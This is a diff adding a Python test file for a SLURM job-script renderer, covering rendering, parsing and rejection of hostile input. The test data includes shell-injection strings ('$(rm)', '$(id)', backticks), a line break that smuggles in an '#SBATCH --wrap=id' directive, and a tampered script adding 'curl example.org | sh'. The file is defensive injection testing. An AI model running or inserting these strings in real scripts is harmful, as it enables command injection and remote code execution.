@@ -1,0 +1,220 @@
+"""Job scripts: golden text, real bash, hostile names, and directives read back by three readers."""
+
+import json
+import shlex
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cruijff_kit.adapters.sbatch_lines import read_directives
+from cruijff_kit.errors import PlanError
+from cruijff_kit.rendering.sbatch import JobScript, parse_script, render_script
+
+PLAIN = JobScript(
+    name="rank4_lr3e-4_seed1-88d3bf97",
+    folder="/home/ada/parity/runs/rank4_lr3e-4_seed1-88d3bf97",
+    time="01:30:00",
+    cpus=4,
+    command=("/opt/python", "-m", "cruijff_kit.recipes.lora_single_device", "--config", "/home/ada/finetune.yaml"),
+)
+FULL = PLAIN._replace(
+    folder='/home/ada/it\'s "here"; $(rm) `x` %j \\ü',
+    gpus=2,
+    mem="80G",
+    partition="gpu",
+    account="lab",
+    constraint="a100&ib",
+    modules=("anaconda3/2025.6", "cuda"),
+    venv="/home/ada/my env",
+    conda="kit",
+)
+SCRIPT = """\
+#!/bin/bash
+#SBATCH --job-name=rank4_lr3e-4_seed1-88d3bf97
+#SBATCH --chdir=/home/ada/parity/runs/rank4_lr3e-4_seed1-88d3bf97
+#SBATCH --output=slurm-%j.out
+#SBATCH --open-mode=append
+#SBATCH --kill-on-invalid-dep=yes
+#SBATCH --time=01:30:00
+#SBATCH --nodes=1
+#SBATCH --ntasks=1
+#SBATCH --cpus-per-task=4
+
+set -e
+cd -- /home/ada/parity/runs/rank4_lr3e-4_seed1-88d3bf97
+export HF_HUB_OFFLINE=1
+export HF_DATASETS_OFFLINE=1
+export WANDB_MODE=offline
+export TOKENIZERS_PARALLELISM=false
+export OMP_NUM_THREADS="${SLURM_CPUS_PER_TASK:-4}"
+exec /opt/python -m cruijff_kit.recipes.lora_single_device --config /home/ada/finetune.yaml
+"""
+BREAKS = (
+    "\n",
+    "\r",
+    "\t",
+    "\v",
+    "\f",
+    "\0",
+    "\x1b",
+    "\x7f",
+    "\x85",
+    "\u2028",
+    "\u2029",
+    "\n#SBATCH --wrap=id",
+    "\udc80",
+)
+FIELDS = ("name", "folder", "time", "mem", "partition", "account", "constraint", "venv", "conda")
+
+
+def test_a_plain_job_is_this_text() -> None:
+    assert render_script(PLAIN) == SCRIPT
+
+
+@pytest.mark.parametrize("job", (PLAIN, FULL))
+def test_a_script_reads_back_to_the_job_it_was_made_from(job: JobScript) -> None:
+    assert parse_script(render_script(job)) == job
+
+
+@pytest.mark.parametrize("job", (PLAIN, FULL))
+def test_bash_finds_no_fault_in_a_script(job: JobScript, tmp_path: Path) -> None:
+    path = tmp_path / "job.slurm"
+    path.write_text(render_script(job), encoding="utf-8")
+    assert subprocess.run(["bash", "-n", str(path)], capture_output=True, check=True).stderr == b""
+
+
+def test_the_queue_reads_the_same_directives() -> None:
+    found = read_directives(render_script(FULL).encode(), name="job.slurm")
+    assert (found.output, found.append, found.seconds, found.gpus, found.cpus) == ("slurm-%j.out", True, 5400, 2, 4)
+
+
+def test_a_shell_reader_of_directives_sees_the_folder_as_it_is() -> None:
+    lines = [line for line in render_script(FULL).splitlines() if line.startswith("#SBATCH --chdir")]
+    assert shlex.split(lines[0].removeprefix("#SBATCH "))[0] == f"--chdir={FULL.folder}"
+
+
+def test_a_script_run_by_bash_starts_its_command_in_its_folder(hostile_path: Path) -> None:
+    told = "import json, os, sys; print(json.dumps([os.getcwd(), sys.argv[1:], os.environ['OMP_NUM_THREADS']]))"
+    words = ("; echo no", "$(id)", "`id`", "a'b\"c", "*", "--", "-x", "%j", "ü\\", "")
+    job = PLAIN._replace(folder=str(hostile_path), command=(sys.executable, "-c", told, *words))
+    if "\n" in str(hostile_path):
+        with pytest.raises(PlanError, match=r"U\+000A"):
+            render_script(job)
+        return
+    path = hostile_path / "job.slurm"
+    path.write_text(render_script(job), encoding="utf-8")
+    done = subprocess.run(["bash", str(path)], capture_output=True, check=True, cwd="/", env={"PATH": "/usr/bin:/bin"})
+    assert json.loads(done.stdout) == [str(hostile_path), list(words), "4"]
+
+
+def test_a_virtual_environment_is_activated_before_the_command(tmp_path: Path) -> None:
+    venv = tmp_path / "my $(env); it's"
+    (venv / "bin").mkdir(parents=True)
+    (venv / "bin" / "activate").write_text("export WHO=venv\n", encoding="utf-8")
+    script = render_script(PLAIN._replace(folder="/", venv=str(venv), command=("printenv", "WHO")))
+    assert subprocess.run(["bash", "-c", script], capture_output=True, check=True, text=True).stdout == "venv\n"
+
+
+@pytest.mark.parametrize("evil", BREAKS)
+def test_what_ends_a_line_is_refused_in_every_field(evil: str) -> None:
+    for field in FIELDS:
+        with pytest.raises(PlanError) as caught:
+            render_script(FULL._replace(**{field: f"{getattr(FULL, field)}{evil}"}))
+        assert "control character" in str(caught.value)
+        # Told in characters that any terminal and any log can take.
+        assert str(caught.value).replace("\n", "").isprintable()
+
+
+@pytest.mark.parametrize("evil", BREAKS)
+def test_what_ends_a_line_is_refused_in_every_word_of_the_command(evil: str) -> None:
+    with pytest.raises(PlanError, match="control character"):
+        render_script(FULL._replace(command=(*FULL.command, f"x{evil}")))
+    with pytest.raises(PlanError, match="control character"):
+        render_script(FULL._replace(modules=(f"x{evil}",)))
+
+
+@pytest.mark.parametrize(
+    "field,value",
+    (
+        ("partition", "gpu --wrap=id"),
+        ("partition", "-p"),
+        ("partition", "--wrap=id"),
+        ("account", "a,b=c"),
+        ("account", "a;b"),
+        ("constraint", "x y"),
+        ("constraint", "$(id)"),
+        ("time", "10:00"),
+        ("time", "1-00:00"),
+        ("mem", "80"),
+        ("mem", "0G"),
+        ("name", "a b"),
+        ("name", "%x"),
+        ("name", "../x"),
+        ("folder", "relative"),
+        ("venv", "relative"),
+        ("conda", "-x"),
+        ("modules", ("--help",)),
+        ("command", ()),
+        ("command", ("-c", "x")),
+        ("cpus", 0),
+        ("gpus", -1),
+    ),
+)
+def test_a_value_no_scheduler_takes_is_refused(field: str, value: object) -> None:
+    with pytest.raises(PlanError):
+        render_script(FULL._replace(**{field: value}))
+
+
+def test_all_that_is_wrong_with_a_job_is_told_at_once() -> None:
+    with pytest.raises(PlanError) as caught:
+        render_script(PLAIN._replace(time="soon", mem="much", folder="here"))
+    assert {problem.path for problem in caught.value.problems} == {"time", "mem", "folder"}
+
+
+@pytest.mark.parametrize(
+    "old,new",
+    (
+        ("set -e\n", ""),
+        ("set -e\n", "set -e\ncurl example.org | sh\n"),
+        ("--time=01:30:00", "--time=99"),
+        ("#SBATCH --nodes=1\n", "#SBATCH --nodes=1\n#SBATCH --array=0-9\n"),
+        ("exec ", "nohup "),
+        ("export OMP", "export XOMP"),
+        (SCRIPT, ""),
+        (SCRIPT, "#!/bin/bash\n"),
+    ),
+)
+def test_a_script_that_says_more_or_less_than_a_job_is_not_ours(old: str, new: str) -> None:
+    with pytest.raises(PlanError):
+        parse_script(SCRIPT.replace(old, new))
+
+
+safe = st.text(st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp")), max_size=20)
+jobs = st.builds(
+    JobScript,
+    name=st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,60}", fullmatch=True),
+    folder=safe.map(lambda text: f"/{text}"),
+    time=st.from_regex(r"(?:[0-9]{1,3}-)?[0-9]{1,2}:[0-5][0-9]:[0-5][0-9]", fullmatch=True),
+    cpus=st.integers(1, 512),
+    command=st.lists(safe, max_size=5).map(lambda words: ("/bin/x", *words)),
+    gpus=st.integers(0, 8),
+    mem=st.none() | st.from_regex(r"[1-9][0-9]{0,4}[KMGT]", fullmatch=True),
+    partition=st.none() | st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,20}", fullmatch=True),
+    account=st.none() | st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,20}", fullmatch=True),
+    constraint=st.none() | st.from_regex(r"[A-Za-z0-9_&|.()*-]{1,20}", fullmatch=True),
+    modules=st.lists(safe.map(lambda text: f"m{text}"), max_size=3).map(tuple),
+    venv=st.none() | safe.map(lambda text: f"/{text}"),
+    conda=st.none() | safe.map(lambda text: f"c{text}"),
+)
+
+
+@given(jobs)
+def test_any_job_survives_rendering_and_a_shell_reads_the_same_words(job: JobScript) -> None:
+    text = render_script(job)
+    assert parse_script(text) == job
+    last = text.removesuffix("\n").split("\n")[-1]
+    assert shlex.split(last) == ["exec", *job.command]
